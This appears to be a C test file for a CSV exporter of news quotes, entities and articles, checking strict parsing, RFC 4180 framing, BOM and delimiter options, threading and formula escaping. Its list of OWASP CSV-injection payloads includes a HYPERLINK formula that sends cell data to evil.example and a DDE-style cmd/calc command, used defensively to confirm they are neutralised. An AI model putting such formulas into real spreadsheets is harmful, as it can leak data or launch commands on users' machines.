/* check_csv.c - the CSV exporter: every table read back with libcsv in
 * strict mode and compared field by field with the record it came from;
 * RFC 4180 framing checked by an independent scanner; formula payloads;
 * BOM and ';'; the schemas against the header and the files in schemas/.
 *
 * NP_UPDATE_SCHEMAS=1 check_csv rewrites schemas/ from the column table
 * (then review the diff and commit it). */
#include "np_check.h"
#include "model.h"
#include "buf.h"
#include "csv_export.h"

#include <csv.h>
#include <jansson.h>
#include <pthread.h>
#include <unistd.h>

/* ---- records built by hand ------------------------------------------------ */

/* A record whose source is `src`; the text is the source with CRLF turned
 * into LF, so source and text offsets differ (as after normalising). */
static np_record *mk_record(const char *id, const char *src)
{
	size_t n = strlen(src);
	np_record *rec = np_record__new(id, id, src, n);
	ck_assert_ptr_nonnull(rec);
	rec->text = np_arena_alloc(rec->arena, n + 1);
	rec->srcmap = np_arena_alloc(rec->arena, (n + 1) * sizeof *rec->srcmap);
	size_t o = 0;
	for (size_t i = 0; i < n; i++) {
		if (src[i] == '\r' && src[i + 1] == '\n')
			continue;
		rec->srcmap[o] = (uint32_t)i;
		rec->text[o++] = src[i];
	}
	rec->srcmap[o] = (uint32_t)n;
	rec->text_len = o;
	rec->meta.language = "en";
	/* paragraphs: split on blank lines */
	size_t s = 0;
	for (size_t i = 0; i <= o; i++) {
		if (i == o || (rec->text[i] == '\n' && i + 1 < o && rec->text[i + 1] == '\n')) {
			if (i > s) {
				np_paragraph p = { { s, i }, 0, 0 };
				ck_assert_int_eq(NP_ARENA_PUSH(rec->arena, rec->paras,
				                 rec->n_paras, rec->cap_paras, p), 0);
			}
			s = i + 2;
			i++;
		}
	}
	return rec;
}

static np_span find_span(const np_record *rec, const char *needle, size_t from)
{
	const char *p = strstr(rec->text + from, needle);
	ck_assert_msg(p != NULL, "'%s' not in the test text", needle);
	size_t a = (size_t)(p - rec->text);
	return (np_span){ a, a + strlen(needle) };
}

static size_t para_of(const np_record *rec, size_t off)
{
	for (size_t i = 0; i < rec->n_paras; i++)
		if (off >= rec->paras[i].span.start && off < rec->paras[i].span.end)
			return i;
	return 0;
}

/* A quote whose words are `words` (first match), said by `mention`. */
static np_quote *add_quote(np_record *rec, np_quote_type type, const char *words,
                           const char *speaker, const char *title,
                           const char *mention, const char *cue)
{
	np_quote q = { 0 };
	q.type = type;
	q.span = find_span(rec, words, 0);
	q.text = np_record__span_dup(rec, q.span);
	q.paragraph = para_of(rec, q.span.start);
	q.speaker = speaker ? 0 : -1;
	q.speaker_name = speaker;
	q.speaker_title = title;
	if (mention)
		q.speaker_span = find_span(rec, mention, q.span.end);
	q.cue = cue;
	ck_assert_int_eq(NP_ARENA_PUSH(rec->arena, rec->quotes, rec->n_quotes,
	                               rec->cap_quotes, q), 0);
	return &rec->quotes[rec->n_quotes - 1];
}

static void add_entity(np_record *rec, np_entity_type type, const char *name,
                       const char *title, const char *alias)
{
	np_entity e = { 0 };
	e.type = type;
	e.name = name;
	e.title = title;
	if (alias) {
		e.aliases = np_arena_alloc(rec->arena, 2 * sizeof *e.aliases);
		e.aliases[0] = alias;
		e.aliases[1] = "Alt; name";
		e.n_aliases = 2;
	}
	e.mentions = np_arena_alloc(rec->arena, 2 * sizeof *e.mentions);
	e.mentions[e.n_mentions++] = find_span(rec, name, 0);
	if (strstr(rec->text, alias ? alias : "\x01"))
		e.mentions[e.n_mentions++] = find_span(rec, alias, 0);
	ck_assert_int_eq(NP_ARENA_PUSH(rec->arena, rec->ents, rec->n_ents,
	                               rec->cap_ents, e), 0);
}

static const char *const story_src =
	"A \"headline\", with a comma\r\n\r\n"
	"\xe2\x80\x9cWe will not, under any \"circumstances\", accept "
	"this caf\xc3\xa9 deal,\xe2\x80\x9d State Department spokesman Jane Doe "
	"said on Friday.\r\n\r\n"
	"\xe2\x80\x9cThe first part\r\nruns on; and on.\xe2\x80\x9d Doe said.\r\n\r\n"
	"\xe2\x80\x9c \xe4\xb8\xad\xe6\x96\x87 and \xf0\x9f\x98\x80 with spaces \xe2\x80\x9d"
	" someone said.\r\n";

static np_record *mk_story(const char *id)
{
	np_record *rec = mk_record(id, story_src);
	rec->meta.headline = "A \"headline\", with a comma";
	rec->meta.date = "2026-03-01";
	rec->meta.byline = "Ann Writer\nand Bo Second";
	rec->meta.dateline = "PARIS (AP)";
	rec->body_start = rec->paras[1].span.start;
	add_quote(rec, NP_QUOTE_DIRECT,
	          "We will not, under any \"circumstances\", accept this caf\xc3\xa9 deal,",
	          "Jane Doe", "State Department spokesman", "Jane Doe", "said");
	add_quote(rec, NP_QUOTE_DIRECT, "The first part\nruns on; and on.", "Jane Doe",
	          NULL, "Doe", "said");
	add_quote(rec, NP_QUOTE_DIRECT,
	          " \xe4\xb8\xad\xe6\x96\x87 and \xf0\x9f\x98\x80 with spaces ", NULL,
	          NULL, NULL, NULL);
	add_entity(rec, NP_ENT_PERSON, "Jane Doe", "State Department spokesman", "Doe");
	add_entity(rec, NP_ENT_ORG, "State Department", NULL, NULL);
	np_record__warn(rec, 3, "repaired: a \"bad\" byte, here");
	np_record__warn(rec, SIZE_MAX, "second warning");
	return rec;
}

/* ---- an output that keeps every file ----------------------------------- */

typedef struct {
	np_output base;
	size_t n;
	char *names[16];
	np_buf data[16];
} keep_output;

static int keep_put(np_output *o, const char *name, const void *data, size_t len)
{
	keep_output *k = (keep_output *)o;
	ck_assert_uint_lt(k->n, 16);
	k->names[k->n] = strdup(name);
	np_buf b = NP_BUF_INIT;
	ck_assert_int_eq(np_buf_put(&b, data, len), 0);
	k->data[k->n++] = b;
	return NP_OK;
}

static void keep_init(keep_output *k)
{
	memset(k, 0, sizeof *k);
	k->base.put = keep_put;
}

static void keep_dispose(keep_output *k)
{
	for (size_t i = 0; i < k->n; i++) {
		free(k->names[i]);
		np_buf_dispose(&k->data[i]);
	}
	k->n = 0;
}

static const np_buf *keep_get(const keep_output *k, const char *name)
{
	for (size_t i = 0; i < k->n; i++)
		if (strcmp(k->names[i], name) == 0)
			return &k->data[i];
	return NULL;
}

/* Write `n` records with `opts` into `k`. */
static void write_all(keep_output *k, np_record **recs, size_t n,
                      const np_options *opts)
{
	np_ctx *ctx = np_ctx_new();
	np_writer *w = NULL;
	keep_init(k);
	k->base.ctx = ctx;
	ck_assert_int_eq(np_writer_new(&w, "csv", &k->base, opts, ctx), NP_OK);
	for (size_t i = 0; i < n; i++)
		ck_assert_int_ge(np_writer_write(w, recs[i]), 0);
	ck_assert_msg(np_writer_close(w) >= 0, "%s", np_ctx_error(ctx));
	np_writer_free(w);
	np_ctx_free(ctx);
}

/* ---- reading back: strict libcsv, and an independent framing scan ------- */

typedef struct {
	char ***rows;   /* rows[r][f], NUL-terminated strings */
	size_t *width;
	size_t n_rows, cap;
	char **cur;
	size_t n_cur, cap_cur;
} table;

static void tb_field(void *s, size_t len, void *data)
{
	table *t = data;
	if (t->n_cur == t->cap_cur) {
		t->cap_cur = t->cap_cur ? 2 * t->cap_cur : 16;
		t->cur = realloc(t->cur, t->cap_cur * sizeof *t->cur);
	}
	char *f = malloc(len + 1);
	memcpy(f, s ? s : "", len);
	f[len] = '\0';
	t->cur[t->n_cur++] = f;
}

static void tb_row(int c, void *data)
{
	(void)c;
	table *t = data;
	if (t->n_rows == t->cap) {
		t->cap = t->cap ? 2 * t->cap : 16;
		t->rows = realloc(t->rows, t->cap * sizeof *t->rows);
		t->width = realloc(t->width, t->cap * sizeof *t->width);
	}
	t->rows[t->n_rows] = t->cur;
	t->width[t->n_rows++] = t->n_cur;
	t->cur = NULL;
	t->n_cur = t->cap_cur = 0;
}

static void tb_free(table *t)
{
	for (size_t r = 0; r < t->n_rows; r++) {
		for (size_t f = 0; f < t->width[r]; f++)
			free(t->rows[r][f]);
		free(t->rows[r]);
	}
	free(t->rows);
	free(t->width);
	memset(t, 0, sizeof *t);
}

/* Never trim: a space is data (the writer quotes such fields anyway). */
static int no_space(unsigned char c) { (void)c; return 0; }

/*
 * Check RFC 4180 framing without libcsv: CRLF ends every record (no bare CR
 * or LF outside quotes), quotes open only at a field start, inner quotes
 * are doubled, and a field is quoted only when it has to be.  Returns the
 * number of records.
 */
static size_t scan_framing(const char *d, size_t n, char delim)
{
	size_t records = 0, i = 0;
	while (i < n) {
		/* one field */
		if (d[i] == '"') {
			size_t start = ++i;
			int needed = 0;
			for (;; i++) {
				ck_assert_msg(i < n, "unterminated quoted field");
				if (d[i] == '"') {
					if (i + 1 < n && d[i + 1] == '"') {
						needed = 1;
						i++;
						continue;
					}
					break;
				}
				if (d[i] == delim || d[i] == '\r' || d[i] == '\n')
					needed = 1;
			}
			size_t end = i++;
			if (end > start && (d[start] == ' ' || d[start] == '\t' ||
			                    d[end - 1] == ' ' || d[end - 1] == '\t'))
				needed = 1;
			ck_assert_msg(needed, "field quoted without need at byte %zu", start);
		} else {
			while (i < n && d[i] != delim && d[i] != '\r' && d[i] != '\n') {
				ck_assert_msg(d[i] != '"', "bare quote at byte %zu", i);
				i++;
			}
		}
		ck_assert_msg(i < n, "last record lacks CRLF");
		if (d[i] == delim) {
			i++;
			continue;
		}
		ck_assert_msg(d[i] == '\r' && i + 1 < n && d[i + 1] == '\n',
		              "record not ended by CRLF at byte %zu", i);
		i += 2;
		records++;
	}
	return records;
}

/* Parse `b` strictly; every row must have the header's width. */
static void parse_table(table *t, const np_buf *b, char delim, int bom)
{
	ck_assert_ptr_nonnull(b);
	const char *d = b->data;
	size_t n = b->len;
	if (bom) {
		ck_assert_msg(n >= 3 && memcmp(d, "\xEF\xBB\xBF", 3) == 0, "no BOM");
		d += 3;
		n -= 3;
	} else {
		ck_assert_msg(n < 3 || memcmp(d, "\xEF\xBB\xBF", 3) != 0, "unasked BOM");
	}
	ck_assert_msg(n < 4 || strncmp(d, "sep=", 4) != 0, "sep= line");
	size_t records = scan_framing(d, n, delim);
	struct csv_parser p;
	ck_assert_int_eq(csv_init(&p, CSV_STRICT | CSV_STRICT_FINI | CSV_APPEND_NULL), 0);
	csv_set_delim(&p, (unsigned char)delim);
	csv_set_space_func(&p, no_space);
	memset(t, 0, sizeof *t);
	size_t k = csv_parse(&p, d, n, tb_field, tb_row, t);
	ck_assert_msg(k == n, "libcsv: %s", csv_strerror(csv_error(&p)));
	ck_assert_int_eq(csv_fini(&p, tb_field, tb_row, t), 0);
	csv_free(&p);
	ck_assert_uint_eq(t->n_rows, records);
	ck_assert_uint_ge(t->n_rows, 1);
	for (size_t r = 1; r < t->n_rows; r++)
		ck_assert_msg(t->width[r] == t->width[0], "row %zu has %zu fields, not %zu",
		              r, t->width[r], t->width[0]);
}

static void assert_header(const table *t, np_csv_table_id id)
{
	ck_assert_uint_eq(t->width[0], np_csv__n_columns(id));
	for (size_t i = 0; i < t->width[0]; i++)
		ck_assert_str_eq(t->rows[0][i], np_csv__column_name(id, i));
}

static const char *cell(const table *t, size_t row, const char *col)
{
	for (size_t i = 0; i < t->width[0]; i++)
		if (strcmp(t->rows[0][i], col) == 0)
			return t->rows[row][i];
	ck_abort_msg("no column %s", col);
	return NULL;
}

static void assert_uint_cell(const table *t, size_t row, const char *col, size_t v)
{
	char num[32];
	snprintf(num, sizeof num, "%zu", v);
	ck_assert_str_eq(cell(t, row, col), num);
}

static const char *or_empty(const char *s) { return s ? s : ""; }

/* ---- the tests ------------------------------------------------------------ */

START_TEST(quotes_table_matches_the_record)
{
	np_record *rec = mk_story("dir/story-1");
	np_options o = NP_OPTIONS_INIT;
	keep_output k;
	write_all(&k, &rec, 1, &o);
	table t;
	parse_table(&t, keep_get(&k, "quotes.csv"), ',', 0);
	assert_header(&t, NP_CSV_T_QUOTES);
	ck_assert_uint_eq(t.n_rows, 1 + rec->n_quotes);
	const char *want_text[] = {
		"We will not, under any \"circumstances\", accept this caf\xc3\xa9 deal,",
		"The first part runs on; and on.",
		" \xe4\xb8\xad\xe6\x96\x87 and \xf0\x9f\x98\x80 with spaces ",
	};
	for (size_t i = 0; i < rec->n_quotes; i++) {
		const np_quote *q = &rec->quotes[i];
		size_t r = i + 1;
		char qid[32];
		snprintf(qid, sizeof qid, "q%zu", i + 1);
		ck_assert_str_eq(cell(&t, r, "article_id"), "dir/story-1");
		ck_assert_str_eq(cell(&t, r, "quote_id"), qid);
		ck_assert_str_eq(cell(&t, r, "type"), "direct");
		assert_uint_cell(&t, r, "paragraph", q->paragraph + 1);
		/* offsets are in the SOURCE (CRLF), and point at the words */
		size_t s = strtoul(cell(&t, r, "start"), NULL, 10);
		size_t e = strtoul(cell(&t, r, "end"), NULL, 10);
		ck_assert_uint_eq(s, np_record_source_offset(rec, q->span.start));
		ck_assert_uint_eq(e, np_record_source_offset(rec, q->span.end));
		ck_assert(e <= rec->src_len && s < e);
		ck_assert_str_eq(cell(&t, r, "quote"), want_text[i]);
		ck_assert_str_eq(cell(&t, r, "speaker"), or_empty(q->speaker_name));
		ck_assert_str_eq(cell(&t, r, "speaker_title"), or_empty(q->speaker_title));
		ck_assert_str_eq(cell(&t, r, "cue"), or_empty(q->cue));
		if (q->speaker_name) {
			size_t ss = strtoul(cell(&t, r, "speaker_start"), NULL, 10);
			size_t se = strtoul(cell(&t, r, "speaker_end"), NULL, 10);
			char *mention = strndup(rec->src + ss, se - ss);
			ck_assert(strstr(q->speaker_name, mention) != NULL);
			free(mention);
		} else {
			ck_assert_str_eq(cell(&t, r, "speaker_start"), "");
			ck_assert_str_eq(cell(&t, r, "speaker_end"), "");
		}
	}
	/* the second quote spans a CRLF in the source: end is past it */
	ck_assert(memcmp(rec->src + strtoul(cell(&t, 2, "start"), NULL, 10),
	                 "The first part\r\nruns", 20) == 0);
	ck_assert_str_eq(cell(&t, 1, "paragraph"), "2");
	ck_assert_str_eq(cell(&t, 2, "paragraph"), "3");
	tb_free(&t);
	keep_dispose(&k);
	np_record_free(rec);
}
END_TEST

START_TEST(entities_and_articles_match_the_record)
{
	np_record *rec = mk_story("story");
	np_options o = NP_OPTIONS_INIT;
	keep_output k;
	write_all(&k, &rec, 1, &o);
	table t;
	parse_table(&t, keep_get(&k, "entities.csv"), ',', 0);
	assert_header(&t, NP_CSV_T_ENTITIES);
	ck_assert_uint_eq(t.n_rows, 3);
	ck_assert_str_eq(cell(&t, 1, "entity_id"), "e1");
	ck_assert_str_eq(cell(&t, 1, "type"), "person");
	ck_assert_str_eq(cell(&t, 1, "name"), "Jane Doe");
	ck_assert_str_eq(cell(&t, 1, "titles"), "State Department spokesman");
	ck_assert_str_eq(cell(&t, 1, "aliases"), "Doe; Alt; name");
	ck_assert_str_eq(cell(&t, 1, "mentions"), "2");
	char want[64];
	const np_entity *e = &rec->ents[0];
	snprintf(want, sizeof want, "%zu..%zu %zu..%zu",
	         np_record_source_offset(rec, e->mentions[0].start),
	         np_record_source_offset(rec, e->mentions[0].end),
	         np_record_source_offset(rec, e->mentions[1].start),
	         np_record_source_offset(rec, e->mentions[1].end));
	ck_assert_str_eq(cell(&t, 1, "mention_offsets"), want);
	ck_assert_str_eq(cell(&t, 2, "type"), "organisation");
	ck_assert_str_eq(cell(&t, 2, "titles"), "");
	ck_assert_str_eq(cell(&t, 2, "aliases"), "");
	ck_assert_str_eq(cell(&t, 2, "mentions"), "1");
	tb_free(&t);

	parse_table(&t, keep_get(&k, "articles.csv"), ',', 0);
	assert_header(&t, NP_CSV_T_ARTICLES);
	ck_assert_uint_eq(t.n_rows, 2);
	ck_assert_str_eq(cell(&t, 1, "article_id"), "story");
	ck_assert_str_eq(cell(&t, 1, "headline"), rec->meta.headline);
	ck_assert_str_eq(cell(&t, 1, "date"), "2026-03-01");
	ck_assert_str_eq(cell(&t, 1, "byline"), "Ann Writer\nand Bo Second");
	ck_assert_str_eq(cell(&t, 1, "dateline"), "PARIS (AP)");
	ck_assert_str_eq(cell(&t, 1, "language"), "en");
	/* words of the body, counted by hand from story_src */
	ck_assert_str_eq(cell(&t, 1, "words"), "36");
	assert_uint_cell(&t, 1, "paragraphs", rec->n_paras);
	ck_assert_str_eq(cell(&t, 1, "quotes"), "3");
	ck_assert_str_eq(cell(&t, 1, "source"), "story");
	ck_assert_str_eq(cell(&t, 1, "warnings"),
	                 "repaired: a \"bad\" byte, here\nsecond warning");
	tb_free(&t);
	keep_dispose(&k);
	np_record_free(rec);
}
END_TEST

/* OWASP CSV-injection payloads. */
static const char *const payloads[] = {
	"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
	"+1", "-2", "@SUM(1+1)*cmd|' /C calc'!A0", "\tleading tab",
	"=1+1, with comma", "\rcarriage", "\nline feed",
};
#define N_PAYLOADS (sizeof payloads / sizeof *payloads)

static np_record *mk_payload_record(size_t i)
{
	const char *p = payloads[i];
	/* the text holds the payload as a quote (without CR/LF, which the quote
	 * column turns into spaces) and as a name */
	np_record *rec = mk_record("x", "Body text \"Q\" S said.\n");
	rec->meta.headline = p;
	rec->meta.byline = p;
	rec->meta.dateline = p;
	rec->meta.source = p;
	np_quote *q = add_quote(rec, NP_QUOTE_DIRECT, "Q", p, p, "S", p);
	q->text = p[0] == '\r' || p[0] == '\n' ? "+ quote" : p;
	np_entity e = { 0 };
	e.name = p;
	e.title = p;
	e.aliases = np_arena_alloc(rec->arena, sizeof *e.aliases);
	e.aliases[0] = p;
	e.n_aliases = 1;
	NP_ARENA_PUSH(rec->arena, rec->ents, rec->n_ents, rec->cap_ents, e);
	np_record__warn(rec, SIZE_MAX, "%s", p[0] == '\r' || p[0] == '\n' ? "-w" : p);
	return rec;
}

static void check_payload_cells(const keep_output *k, size_t i, int raw)
{
	const char *p = payloads[i];
	char want[256];
	snprintf(want, sizeof want, "%s%s", raw ? "" : "'", p);
	char wantq[64];
	const char *qt = p[0] == '\r' || p[0] == '\n' ? "+ quote" : p;
	snprintf(wantq, sizeof wantq, "%s%s", raw ? "" : "'", qt);
	table t;
	parse_table(&t, keep_get(k, "quotes.csv"), ',', 0);
	ck_assert_str_eq(cell(&t, 1, "quote"), wantq);
	ck_assert_str_eq(cell(&t, 1, "speaker"), want);
	ck_assert_str_eq(cell(&t, 1, "speaker_title"), want);
	ck_assert_str_eq(cell(&t, 1, "cue"), want);
	/* numbers are never touched */
	ck_assert_str_eq(cell(&t, 1, "paragraph"), "1");
	ck_assert(cell(&t, 1, "start")[0] >= '0' && cell(&t, 1, "start")[0] <= '9');
	ck_assert_str_eq(cell(&t, 1, "type"), "direct");
	tb_free(&t);
	parse_table(&t, keep_get(k, "entities.csv"), ',', 0);
	ck_assert_str_eq(cell(&t, 1, "name"), want);
	ck_assert_str_eq(cell(&t, 1, "titles"), want);
	ck_assert_str_eq(cell(&t, 1, "aliases"), want);
	ck_assert_str_eq(cell(&t, 1, "mentions"), "0");
	tb_free(&t);
	parse_table(&t, keep_get(k, "articles.csv"), ',', 0);
	ck_assert_str_eq(cell(&t, 1, "headline"), want);
	ck_assert_str_eq(cell(&t, 1, "byline"), want);
	ck_assert_str_eq(cell(&t, 1, "dateline"), want);
	ck_assert_str_eq(cell(&t, 1, "source"), want);
	ck_assert_str_eq(cell(&t, 1, "quotes"), "1");
	tb_free(&t);
}

START_TEST(formula_payloads_are_neutralised)
{
	np_record *rec = mk_payload_record((size_t)_i);
	np_options o = NP_OPTIONS_INIT;
	keep_output k;
	write_all(&k, &rec, 1, &o);
	check_payload_cells(&k, (size_t)_i, 0);
	keep_dispose(&k);
	np_record_free(rec);
}
END_TEST

START_TEST(csv_raw_keeps_payloads_verbatim)
{
	np_record *rec = mk_payload_record((size_t)_i);
	np_options o = NP_OPTIONS_INIT;
	o.csv_raw = 1;
	keep_output k;
	write_all(&k, &rec, 1, &o);
	check_payload_cells(&k, (size_t)_i, 1);
	keep_dispose(&k);
	np_record_free(rec);
}
END_TEST

START_TEST(cells_are_quoted_only_when_needed)
{
	np_buf b = NP_BUF_INIT;
	struct { const char *in; int numeric; char delim; const char *out; } c[] = {
		{ "plain", 0, ',', "plain" },
		{ "a,b", 0, ',', "\"a,b\"" },
		{ "a;b", 0, ',', "a;b" },
		{ "a;b", 0, ';', "\"a;b\"" },
		{ "a,b", 0, ';', "a,b" },
		{ "say \"hi\"", 0, ',', "\"say \"\"hi\"\"\"" },
		{ "two\nlines", 0, ',', "\"two\nlines\"" },
		{ "cr\rhere", 0, ',', "\"cr\rhere\"" },
		{ " padded", 0, ',', "\" padded\"" },
		{ "caf\xc3\xa9 \xe2\x80\x9cok\xe2\x80\x9d", 0, ',',
		  "caf\xc3\xa9 \xe2\x80\x9cok\xe2\x80\x9d" },
		{ "=1,2", 0, ',', "\"'=1,2\"" },
		{ "-5", 0, ',', "'-5" },
		{ "-5", 1, ',', "-5" },
		{ "", 0, ',', "" },
		{ "it's", 0, '\'', "\"it's\"" },
	};
	for (size_t i = 0; i < sizeof c / sizeof *c; i++) {
		np_buf_reset(&b);
		ck_assert_int_eq(np_csv__put_cell(&b, c[i].in, strlen(c[i].in), c[i].numeric,
		                                  c[i].delim, 0), 0);
		ck_assert_msg(b.len == strlen(c[i].out) && memcmp(b.data, c[i].out, b.len) == 0,
		              "case %zu: got [%s]", i, b.data);
	}
	np_buf_dispose(&b);
}
END_TEST

START_TEST(bom_and_semicolon_variants)
{
	np_record *rec = mk_story("s");
	np_options o = NP_OPTIONS_INIT;
	o.csv_bom = 1;
	o.csv_delimiter = ';';
	keep_output k;
	write_all(&k, &rec, 1, &o);
	static const char *const files[] = { "quotes.csv", "entities.csv",
		"articles.csv" };
	for (int f = 0; f < 3; f++) {
		table t;
		parse_table(&t, keep_get(&k, files[f]), ';', 1);
		assert_header(&t, (np_csv_table_id)f);
		tb_free(&t);
	}
	table t;
	parse_table(&t, keep_get(&k, "quotes.csv"), ';', 1);
	ck_assert_str_eq(cell(&t, 2, "quote"), "The first part runs on; and on.");
	ck_assert_str_eq(cell(&t, 1, "quote"),
	                 "We will not, under any \"circumstances\", accept this caf\xc3\xa9 deal,");
	tb_free(&t);
	/* the CSVW dialect follows the options */
	const np_buf *meta = keep_get(&k, "csv-metadata.json");
	json_error_t err;
	json_t *m = json_loadb(meta->data, meta->len, 0, &err);
	ck_assert_msg(m != NULL, "csv-metadata.json: %s", err.text);
	ck_assert_str_eq(json_string_value(json_object_get(json_object_get(m, "dialect"),
	                                                   "delimiter")), ";");
	json_decref(m);
	keep_dispose(&k);
	np_record_free(rec);
}
END_TEST

START_TEST(batch_keeps_input_order_and_is_deterministic)
{
	np_record *recs[5];
	for (int i = 0; i < 5; i++) {
		char id[16];
		snprintf(id, sizeof id, "a%d", 4 - i); /* ids not sorted: order = input */
		recs[i] = mk_story(id);
	}
	np_options o = NP_OPTIONS_INIT;
	keep_output k1, k2;
	write_all(&k1, recs, 5, &o);
	write_all(&k2, recs, 5, &o);
	ck_assert_uint_eq(k1.n, k2.n);
	for (size_t i = 0; i < k1.n; i++) {
		ck_assert_str_eq(k1.names[i], k2.names[i]);
		ck_assert_uint_eq(k1.data[i].len, k2.data[i].len);
		ck_assert(memcmp(k1.data[i].data, k2.data[i].data, k1.data[i].len) == 0);
	}
	table t;
	parse_table(&t, keep_get(&k1, "quotes.csv"), ',', 0);
	ck_assert_uint_eq(t.n_rows, 1 + 5 * 3);
	for (int i = 0; i < 5; i++)
		for (int q = 0; q < 3; q++) {
			char id[16], qid[16];
			snprintf(id, sizeof id, "a%d", 4 - i);
			snprintf(qid, sizeof qid, "q%d", q + 1);
			ck_assert_str_eq(cell(&t, 1 + 3 * (size_t)i + (size_t)q, "article_id"), id);
			ck_assert_str_eq(cell(&t, 1 + 3 * (size_t)i + (size_t)q, "quote_id"), qid);
		}
	tb_free(&t);
	keep_dispose(&k1);
	keep_dispose(&k2);
	for (int i = 0; i < 5; i++)
		np_record_free(recs[i]);
}
END_TEST

START_TEST(big_batches_spill_to_disk_with_the_same_bytes)
{
	enum { N = 40 };
	np_record *recs[N];
	for (int i = 0; i < N; i++) {
		char id[16];
		snprintf(id, sizeof id, "b%02d", i);
		recs[i] = mk_story(id);
	}
	np_options o = NP_OPTIONS_INIT;
	keep_output mem, disk;
	write_all(&mem, recs, N, &o);
	size_t saved = np_csv__spill_bytes;
	np_csv__spill_bytes = 100;
	write_all(&disk, recs, N, &o);
	np_csv__spill_bytes = saved;
	ck_assert_uint_eq(mem.n, disk.n);
	for (size_t i = 0; i < mem.n; i++) {
		ck_assert_uint_eq(mem.data[i].len, disk.data[i].len);
		ck_assert(memcmp(mem.data[i].data, disk.data[i].data, mem.data[i].len) == 0);
	}
	table t;
	parse_table(&t, keep_get(&disk, "quotes.csv"), ',', 0);
	ck_assert_uint_eq(t.n_rows, 1 + N * 3);
	tb_free(&t);
	keep_dispose(&mem);
	keep_dispose(&disk);
	for (int i = 0; i < N; i++)
		np_record_free(recs[i]);
}
END_TEST

/* A spilled table goes to a folder in pieces (put_fd), never mapped
 * whole: the files must hold exactly the bytes of the in-memory run. */
START_TEST(spilled_tables_stream_to_a_folder_with_the_same_bytes)
{
	enum { N = 40 };
	np_record *recs[N];
	for (int i = 0; i < N; i++) {
		char id[16];
		snprintf(id, sizeof id, "s%02d", i);
		recs[i] = mk_story(id);
	}
	np_options o = NP_OPTIONS_INIT;
	keep_output mem;
	write_all(&mem, recs, N, &o);
	char dir[] = "/tmp/np-csv-fd.XXXXXX";
	ck_assert_ptr_nonnull(mkdtemp(dir));
	np_ctx *ctx = np_ctx_new();
	np_output *out = NULL;
	ck_assert_int_eq(np_output_dir_new(&out, dir, ctx), NP_OK);
	ck_assert(out->put_fd != NULL);
	size_t saved = np_csv__spill_bytes;
	np_csv__spill_bytes = 100;
	np_writer *w = NULL;
	ck_assert_int_eq(np_writer_new(&w, "csv", out, &o, ctx), NP_OK);
	for (size_t i = 0; i < N; i++)
		ck_assert_int_ge(np_writer_write(w, recs[i]), 0);
	ck_assert_msg(np_writer_close(w) >= 0, "%s", np_ctx_error(ctx));
	np_writer_free(w);
	np_csv__spill_bytes = saved;
	const char *files[] = { "quotes.csv", "entities.csv", "articles.csv" };
	for (size_t f = 0; f < 3; f++) {
		const np_buf *want = keep_get(&mem, files[f]);
		ck_assert_ptr_nonnull(want);
		char path[96];
		snprintf(path, sizeof path, "%s/%s", dir, files[f]);
		FILE *fp = fopen(path, "rb");
		ck_assert_ptr_nonnull(fp);
		char *got = malloc(want->len + 2);
		size_t n = fread(got, 1, want->len + 1, fp);
		fclose(fp);
		ck_assert_uint_eq(n, want->len);
		ck_assert(memcmp(got, want->data, n) == 0);
		free(got);
		unlink(path);
	}
	/* the Table Schemas and metadata files beside them */
	for (size_t i = 0; i < mem.n; i++) {
		char path[160];
		snprintf(path, sizeof path, "%s/%s", dir, mem.names[i]);
		unlink(path);
	}
	np_output_free(out);
	np_ctx_free(ctx);
	ck_assert_int_eq(rmdir(dir), 0);
	keep_dispose(&mem);
	for (int i = 0; i < N; i++)
		np_record_free(recs[i]);
}
END_TEST

typedef struct {
	np_writer *w;
	np_record **recs;
	int from, n;
} thread_job;

static void *write_some(void *arg)
{
	thread_job *j = arg;
	/* the format's own write: np_writer_write also sets the output's
	 * `current` record, which concurrent callers would race on */
	for (int i = 0; i < j->n; i++)
		if (j->w->fmt->write(j->w, j->recs[j->from + i]) < 0)
			return arg;
	return NULL;
}

START_TEST(concurrent_writers_never_interleave_articles)
{
	enum { N = 64, T = 4 };
	np_record *recs[N];
	for (int i = 0; i < N; i++) {
		char id[16];
		snprintf(id, sizeof id, "t%02d", i);
		recs[i] = mk_story(id);
	}
	np_options o = NP_OPTIONS_INIT;
	np_ctx *ctx = np_ctx_new();
	keep_output k;
	keep_init(&k);
	k.base.ctx = ctx;
	np_writer *w = NULL;
	ck_assert_int_eq(np_writer_new(&w, "csv", &k.base, &o, ctx), NP_OK);
	pthread_t th[T];
	thread_job jobs[T];
	for (int i = 0; i < T; i++) {
		jobs[i] = (thread_job){ w, recs, i * (N / T), N / T };
		pthread_create(&th[i], NULL, write_some, &jobs[i]);
	}
	for (int i = 0; i < T; i++) {
		void *r;
		pthread_join(th[i], &r);
		ck_assert_ptr_null(r);
	}
	ck_assert_int_ge(np_writer_close(w), 0);
	np_writer_free(w);
	table t;
	parse_table(&t, keep_get(&k, "quotes.csv"), ',', 0);
	ck_assert_uint_eq(t.n_rows, 1 + N * 3);
	for (size_t r = 1; r < t.n_rows; r += 3) {
		ck_assert_str_eq(cell(&t, r, "quote_id"), "q1");
		ck_assert_str_eq(cell(&t, r + 1, "article_id"), cell(&t, r, "article_id"));
		ck_assert_str_eq(cell(&t, r + 2, "article_id"), cell(&t, r, "article_id"));
		ck_assert_str_eq(cell(&t, r + 2, "quote_id"), "q3");
	}
	tb_free(&t);
	keep_dispose(&k);
	np_ctx_free(ctx);
	for (int i = 0; i < N; i++)
		np_record_free(recs[i]);
}
END_TEST

START_TEST(extract_puts_only_the_quote_table)
{
	np_record *rec = mk_story("s");
	np_options o = NP_OPTIONS_INIT;
	o.csv_tables = NP_CSV_QUOTES;
	keep_output k;
	write_all(&k, &rec, 1, &o);
	ck_assert_uint_eq(k.n, 1);
	ck_assert_str_eq(k.names[0], "quotes.csv");
	keep_dispose(&k);
	/* every table and schema by default, tables first */
	np_options d = NP_OPTIONS_INIT;
	write_all(&k, &rec, 1, &d);
	static const char *const want[] = { "quotes.csv", "entities.csv",
		"articles.csv", "quotes.schema.json", "entities.schema.json",
		"articles.schema.json", "csv-metadata.json", "datapackage.json" };
	ck_assert_uint_eq(k.n, 8);
	for (size_t i = 0; i < 8; i++)
		ck_assert_str_eq(k.names[i], want[i]);
	keep_dispose(&k);
	np_record_free(rec);
}
END_TEST

START_TEST(an_empty_batch_gives_header_only_tables)
{
	np_options o = NP_OPTIONS_INIT;
	keep_output k;
	write_all(&k, NULL, 0, &o);
	for (int f = 0; f < 3; f++) {
		static const char *const files[] = { "quotes.csv", "entities.csv",
			"articles.csv" };
		table t;
